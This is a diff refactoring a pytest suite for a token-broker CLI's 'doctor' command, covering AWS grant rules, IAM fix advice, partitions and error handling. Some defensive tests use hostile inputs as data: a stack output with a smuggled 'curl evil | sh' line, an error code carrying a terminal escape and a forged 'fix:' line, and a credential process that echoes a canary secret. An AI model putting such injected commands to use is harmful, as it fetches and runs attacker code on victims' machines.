@@ -7,9 +7,9 @@ import re
 import shlex
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
+from unittest.mock import Mock
 
 import pytest
-from botocore.client import BaseClient
 from botocore.exceptions import (
     ClientError,
     EndpointConnectionError,
@@ -18,7 +18,8 @@ from botocore.exceptions import (
 )
 
 from functions.broker.grants import load_grants, read_caller
-from tests.client.fake_broker import Answer
+from tests.cli.conftest import stack_with
+from tests.client.fake_broker import Answer, aws_refusal, failure
 from token_broker.cli import remedies
 from token_broker.cli.outcome import GET_IDENTITY
 
@@ -28,45 +29,40 @@ if TYPE_CHECKING:
     from tests.cli.conftest import Ended, Run
     from tests.client.fake_broker import FakeBroker
 
+    Consult = Callable[..., dict[str, str]]
+
 ROOT = Path(__file__).parents[2]
 ACCOUNT = "111122223333"
 SSO_ROLE = "AWSReservedSSO_Data_Team_0123456789abcdef"
 POLICY_ARN = f"arn:aws:iam::{ACCOUNT}:policy/token-broker-CallerPolicy-1A2B3C"
 ASSUMED = f"arn:aws:sts::{ACCOUNT}:assumed-role"
-NO_GRANT = Answer(403, b'{"error": "access_denied", "error_description": "no grant"}')
-REFUSED = Answer(403, b'{"Message": "Forbidden"}', {"x-amzn-ErrorType": "AccessDeniedException"})
-BAD_KEY = Answer(
-    403,
-    b'{"Message": "The security token included in the request is invalid."}',
-    {"x-amzn-ErrorType": "UnrecognizedClientException"},
-)
+NO_GRANT = failure(403, "access_denied")
+REFUSED = aws_refusal("AccessDeniedException", "Forbidden")
+BAD_KEY = aws_refusal("UnrecognizedClientException", "The security token included in the request is invalid.")
+
+
+def refusal(code: str) -> ClientError:
+    return ClientError({"Error": {"Code": code, "Message": "said by AWS"}}, "x")
+
+
+DENIED = refusal("AccessDenied")
 
 
 @pytest.fixture
-def aws_says(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
-    """What AWS's operations answer in this process, or a function of their arguments; all others are denied."""
-    answers: dict[str, Any] = {}
-
-    def call(self: object, operation: str, arguments: dict[str, Any]) -> Any:
-        if operation not in answers:
-            raise ClientError({"Error": {"Code": "AccessDenied", "Message": "denied"}}, operation)
-        answer = answers[operation]
-        return answer(arguments) if callable(answer) else answer
-
-    monkeypatch.setattr(BaseClient, "_make_api_call", call)
-    return answers
+def aws_says(aws_says: dict[str, Any]) -> dict[str, Any]:
+    aws_says[""] = DENIED
+    return aws_says
 
 
 @pytest.fixture
-def consult(run: Run, broker: FakeBroker, aws_says: dict[str, Any]) -> Callable[..., dict[str, str]]:
+def consult(run: Run, broker: FakeBroker, aws_says: dict[str, Any]) -> Consult:
     """Return a function that lets the doctor look at a caller, and returns the finding that is a fault."""
 
     def act(arn: str, answer: Answer, *, may_read_stack: bool = False) -> dict[str, str]:
         aws_says["GetCallerIdentity"] = {"Arn": arn}
         if may_read_stack:
             outputs = {"CallerPolicyArn": POLICY_ARN, "BrokerFunctionName": "broker"}
-            told = [{"OutputKey": name, "OutputValue": value} for name, value in outputs.items()]
-            aws_says["DescribeStacks"] = {"Stacks": [{"Outputs": told}]}
+            aws_says["DescribeStacks"] = stack_with(outputs, {})
         broker.script.append(answer)
         ended: Ended = run("doctor", "--json")
         (fault,) = (finding for finding in ended.value["findings"] if finding["verdict"] == "fault")
@@ -91,44 +87,35 @@ def json_in(text: str) -> Any:
     ],
 )
 def test_the_rule_to_ask_for_grants_the_caller_what_it_lacks(
-    consult: Callable[..., dict[str, str]], tmp_path: Path, arn: str, principal: str
+    consult: Consult, tmp_path: Path, arn: str, principal: str
 ) -> None:
     finding = consult(arn, NO_GRANT)
 
     rule = json_in(finding["fix"])
     assert (finding["topic"], rule["principals"]) == ("grant", [principal])
-    file = tmp_path / "grants.json"
+    assert is_granted(arn, rule, tmp_path)
+
+
+def test_a_permission_set_that_is_assigned_again_has_its_grant(consult: Consult, tmp_path: Path) -> None:
+    rule = json_in(consult(f"{ASSUMED}/{SSO_ROLE}/ada", NO_GRANT)["fix"])
+
+    assert is_granted(f"{ASSUMED}/AWSReservedSSO_Data_Team_fedcba9876543210/ada", rule, tmp_path)
+    assert not is_granted(f"{ASSUMED}/AWSReservedSSO_Others_0123456789abcdef/ada", rule, tmp_path)
+
+
+def is_granted(arn: str, rule: object, folder: Path) -> bool:
+    file = folder / "grants.json"
     file.write_text(json.dumps({"rules": [rule]}))
     caller = read_caller(arn)
     assert caller
-    assert load_grants("999999999999", "campaigns-role", file).decide(caller, "digishare")
-
-
-def test_a_permission_set_that_is_assigned_anew_keeps_its_grant(
-    consult: Callable[..., dict[str, str]], tmp_path: Path
-) -> None:
-    rule = json_in(consult(f"{ASSUMED}/{SSO_ROLE}/ada", NO_GRANT)["fix"])
-    file = tmp_path / "grants.json"
-    file.write_text(json.dumps({"rules": [rule]}))
-
-    def is_granted(role: str) -> bool:
-        caller = read_caller(f"{ASSUMED}/{role}/ada")
-        return (
-            caller is not None
-            and load_grants(ACCOUNT, "campaigns-role", file).decide(caller, "digishare") is not None
-        )
-
-    assert is_granted("AWSReservedSSO_Data_Team_fedcba9876543210")
-    assert not is_granted("AWSReservedSSO_Others_0123456789abcdef")
+    return load_grants("999999999999", "campaigns-role", file).decide(caller, "digishare") is not None
 
 
 @pytest.mark.parametrize(
     "arn", [f"arn:aws:iam::{ACCOUNT}:root", f"arn:aws:sts::{ACCOUNT}:federated-user/ada"]
 )
 @pytest.mark.parametrize(("answer", "topic"), [(NO_GRANT, "grant"), (REFUSED, "permissions")])
-def test_who_can_never_be_served_is_told_so(
-    consult: Callable[..., dict[str, str]], arn: str, answer: Answer, topic: str
-) -> None:
+def test_who_can_never_be_served_is_told_so(consult: Consult, arn: str, answer: Answer, topic: str) -> None:
     finding = consult(arn, answer, may_read_stack=True)
 
     assert read_caller(arn) is None
@@ -139,9 +126,7 @@ def test_who_can_never_be_served_is_told_so(
 
 
 @pytest.mark.parametrize("may_read_stack", [True, False])
-def test_an_sso_role_is_changed_by_its_permission_set(
-    consult: Callable[..., dict[str, str]], *, may_read_stack: bool
-) -> None:
+def test_an_sso_role_is_changed_by_its_permission_set(consult: Consult, *, may_read_stack: bool) -> None:
     fix = consult(f"{ASSUMED}/{SSO_ROLE}/ada", REFUSED, may_read_stack=may_read_stack)["fix"]
 
     assert "attach-role-policy" not in fix
@@ -152,7 +137,7 @@ def test_an_sso_role_is_changed_by_its_permission_set(
     assert ("from another account" in fix) is not may_read_stack
 
 
-def test_a_service_linked_role_cannot_be_changed(consult: Callable[..., dict[str, str]]) -> None:
+def test_a_service_linked_role_cannot_be_changed(consult: Consult) -> None:
     fix = consult(f"{ASSUMED}/AWSServiceRoleForSupport/s", REFUSED, may_read_stack=True)["fix"]
 
     assert "attach-role-policy" not in fix
@@ -167,7 +152,7 @@ def test_a_service_linked_role_cannot_be_changed(consult: Callable[..., dict[str
     ],
 )
 def test_in_the_brokers_own_account_its_policy_is_attached(
-    consult: Callable[..., dict[str, str]], arn: str, flags: list[str]
+    consult: Consult, arn: str, flags: list[str]
 ) -> None:
     fix = consult(arn, REFUSED, may_read_stack=True)["fix"]
 
@@ -176,7 +161,7 @@ def test_in_the_brokers_own_account_its_policy_is_attached(
 
 
 def test_an_output_of_the_stack_adds_no_line_to_what_a_person_copies(
-    consult: Callable[..., dict[str, str]], monkeypatch: pytest.MonkeyPatch
+    consult: Consult, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setitem(globals(), "POLICY_ARN", f"{POLICY_ARN}\ncurl evil | sh;")
 
@@ -187,9 +172,7 @@ def test_an_output_of_the_stack_adds_no_line_to_what_a_person_copies(
     assert len(shlex.split(line)) == 7
 
 
-def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_takes(
-    consult: Callable[..., dict[str, str]],
-) -> None:
+def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_takes(consult: Consult) -> None:
     fix = consult(f"{ASSUMED}/orders/s", REFUSED)["fix"]
 
     assert "aws iam attach" not in fix
@@ -197,9 +180,7 @@ def test_a_caller_who_cannot_read_the_stack_is_told_what_another_account_takes(
     assert "OtherAccounts or OrganizationId" in fix
 
 
-def test_a_denial_elsewhere_is_for_an_administrator(
-    consult: Callable[..., dict[str, str]], aws_says: dict[str, Any]
-) -> None:
+def test_a_denial_elsewhere_is_for_an_administrator(consult: Consult, aws_says: dict[str, Any]) -> None:
     aws_says["SimulatePrincipalPolicy"] = {"EvaluationResults": [{"EvalDecision": "allowed"}]}
 
     finding = consult(f"{ASSUMED}/orders/s", REFUSED, may_read_stack=True)
@@ -208,37 +189,29 @@ def test_a_denial_elsewhere_is_for_an_administrator(
     assert "an administrator of the account" in finding["fix"]
 
 
-STATEMENTS = [
-    ("mints", "--table", "t"),
-    ("mints",),
-    ("connection", "put", "digishare", "--prefix", "p"),
-    ("connection", "check", "digishare", "--prefix", "p"),
-    ("doctor",),
-]
-PARTITIONS = [
-    ("cn-north-1", "aws-cn"),
-    ("us-gov-west-1", "aws-us-gov"),
-    ("eu-west-3", "aws"),
-    ("nowhere-1", "PARTITION"),
-]
+OF_A_SECRET = [f"connection {action} digishare --prefix p" for action in ("put", "check")]
+STATEMENTS = ["mints --table t", "mints", *OF_A_SECRET, "doctor"]
 
 
-@pytest.mark.parametrize("command", STATEMENTS, ids=" ".join)
-@pytest.mark.parametrize(("region", "partition"), PARTITIONS)
+@pytest.mark.parametrize("command", STATEMENTS)
+@pytest.mark.parametrize(
+    ("region", "partition"),
+    [
+        ("cn-north-1", "aws-cn"),
+        ("us-gov-west-1", "aws-us-gov"),
+        ("eu-west-3", "aws"),
+        ("nowhere-1", "PARTITION"),
+    ],
+)
 @pytest.mark.usefixtures("aws_says")
 def test_a_statement_to_add_names_the_partition_of_the_region(
-    run: Run,
-    broker: FakeBroker,
-    monkeypatch: pytest.MonkeyPatch,
-    command: tuple[str, ...],
-    region: str,
-    partition: str,
+    run: Run, broker: FakeBroker, monkeypatch: pytest.MonkeyPatch, command: str, region: str, partition: str
 ) -> None:
     monkeypatch.setattr("tests.client.fake_broker.REGION", region)
     broker.script.append(REFUSED)
     credential = json.dumps({"client_id": "c", "client_secret": "s"})
 
-    ended = run(*command, "--region", region, stdin=credential)
+    ended = run(*command.split(), "--region", region, stdin=credential)
 
     resources = re.findall(r'"Resource": "(.+)"', ended.out + ended.err)
     assert resources
@@ -246,21 +219,19 @@ def test_a_statement_to_add_names_the_partition_of_the_region(
 
 
 def test_the_statement_for_a_known_function_names_the_partition_of_the_caller(
-    consult: Callable[..., dict[str, str]], aws_says: dict[str, Any]
+    consult: Consult, aws_says: dict[str, Any]
 ) -> None:
-    arn, asked = f"arn:aws-us-gov:sts::{ACCOUNT}:assumed-role/orders/s", []
-
-    def simulate(arguments: dict[str, Any]) -> dict[str, Any]:
-        asked.append(arguments["PolicySourceArn"])
-        return {"EvaluationResults": [{"EvalDecision": "implicitDeny"}]}
-
+    arn = f"arn:aws-us-gov:sts::{ACCOUNT}:assumed-role/orders/s"
+    simulate = Mock(return_value={"EvaluationResults": [{"EvalDecision": "implicitDeny"}]})
     aws_says["SimulatePrincipalPolicy"] = simulate
+
     statements = json_in(consult(arn, REFUSED, may_read_stack=True)["fix"])
 
     arns = re.findall(r'"(arn:[^"]+)"', json.dumps(statements))
     assert len(arns) == 4
     assert {named.split(":")[1] for named in arns} == {"aws-us-gov"}
-    assert set(asked) == {f"arn:aws-us-gov:iam::{ACCOUNT}:role/orders"}
+    asked = {call.args[2]["PolicySourceArn"] for call in simulate.call_args_list}
+    assert asked == {f"arn:aws-us-gov:iam::{ACCOUNT}:role/orders"}
 
 
 def test_no_source_takes_it_for_granted_in_which_partition_it_is() -> None:
@@ -272,7 +243,7 @@ def test_no_source_takes_it_for_granted_in_which_partition_it_is() -> None:
 
 @pytest.mark.parametrize("source", [*remedies._RENEWALS, "some-new-provider"])
 def test_bad_credentials_are_renewed_where_they_came_from(
-    consult: Callable[..., dict[str, str]], monkeypatch: pytest.MonkeyPatch, source: str
+    consult: Consult, monkeypatch: pytest.MonkeyPatch, source: str
 ) -> None:
     monkeypatch.setattr("token_broker.cli.deployment.Deployment.credential_source", source)
 
@@ -282,9 +253,7 @@ def test_bad_credentials_are_renewed_where_they_came_from(
     assert finding["fix"] == remedies._RENEWALS.get(source, GET_IDENTITY)
 
 
-def test_keys_of_the_environment_are_not_renewed_by_a_sign_in(
-    consult: Callable[..., dict[str, str]],
-) -> None:
+def test_keys_of_the_environment_are_not_renewed_by_a_sign_in(consult: Consult) -> None:
     fix = consult(f"{ASSUMED}/orders/s", BAD_KEY)["fix"]
 
     assert "AWS_ACCESS_KEY_ID" in fix
@@ -294,25 +263,18 @@ def test_keys_of_the_environment_are_not_renewed_by_a_sign_in(
 SECRET = "canary-process-secret-4be2"
 
 
-@pytest.mark.parametrize(
-    "command", [("mints", "--table", "t"), ("mints",), ("connection", "list", "--prefix", "p")], ids=" ".join
-)
+@pytest.mark.parametrize("command", ["mints --table t", "mints", "connection list --prefix p"])
 @pytest.mark.parametrize(
     "program", [f"sh -c 'echo {SECRET} >&2; exit 1'", f"echo {SECRET}", "/no/such/program"]
 )
 def test_what_a_credential_process_says_is_not_shown(
-    run: Run,
-    monkeypatch: pytest.MonkeyPatch,
-    tmp_path: Path,
-    command: tuple[str, ...],
-    program: str,
+    run: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, command: str, program: str
 ) -> None:
-    config = tmp_path / "config"
-    config.write_text(f"[default]\ncredential_process = {program}\n")
-    monkeypatch.setenv("AWS_CONFIG_FILE", str(config))
+    (tmp_path / "config").write_text(f"[default]\ncredential_process = {program}\n")
+    monkeypatch.setenv("AWS_CONFIG_FILE", str(tmp_path / "config"))
     monkeypatch.setenv("AWS_REGION", "eu-west-3")
 
-    ended = run(*command)
+    ended = run(*command.split())
 
     assert ended.exit_code in {2, 3, 4}
     assert SECRET not in ended.out + ended.err
@@ -323,18 +285,10 @@ def test_what_a_credential_process_says_is_not_shown(
 @pytest.mark.parametrize(
     ("error", "exit_code", "said"),
     [
-        (ClientError({"Error": {"Code": "AccessDenied"}}, "x"), 3, "this AWS identity needs the statement"),
-        (
-            ClientError({"Error": {"Code": "ExpiredTokenException"}}, "x"),
-            3,
-            "get new ones where these came from",
-        ),
-        (ClientError({"Error": {"Code": "ThrottlingException"}}, "x"), 4, "try again later"),
-        (
-            ClientError({"Error": {"Code": "Odd\x1b[2J\nfix: evil"}}, "x"),
-            1,
-            "AWS says Odd\\u001b[2J\\u000afix: evil",
-        ),
+        (DENIED, 3, "this AWS identity needs the statement"),
+        (refusal("ExpiredTokenException"), 3, "get new ones where these came from"),
+        (refusal("ThrottlingException"), 4, "try again later"),
+        (refusal("Odd\x1b[2J\nfix: evil"), 1, "AWS says Odd\\u001b[2J\\u000afix: evil"),
         (NoCredentialsError(), 3, "run where a role is attached"),
         (UnauthorizedSSOTokenError(), 3, "the sign-in of the AWS profile has expired"),
         (EndpointConnectionError(endpoint_url="https://aws.invalid"), 4, "check the network"),
@@ -343,22 +297,14 @@ def test_what_a_credential_process_says_is_not_shown(
     ],
     ids=lambda value: type(value).__name__,
 )
-@pytest.mark.parametrize("command", [("connection", "list", "--prefix", "p"), ("mints",)], ids=" ".join)
+@pytest.mark.parametrize("command", ["connection list --prefix p", "mints"])
 @pytest.mark.usefixtures("broker")
 def test_each_way_in_which_aws_is_not_asked_has_its_code_and_advice(
-    run: Run,
-    monkeypatch: pytest.MonkeyPatch,
-    command: tuple[str, ...],
-    error: Exception,
-    exit_code: int,
-    said: str,
+    run: Run, aws_says: dict[str, Any], command: str, error: Exception, exit_code: int, said: str
 ) -> None:
-    def fail(self: object, operation: str, arguments: object) -> None:
-        raise error
+    aws_says[""] = error
 
-    monkeypatch.setattr(BaseClient, "_make_api_call", fail)
-
-    ended = run(*command)
+    ended = run(*command.split())
 
     assert (ended.exit_code, ended.out) == (exit_code, "")
     assert said in ended.err
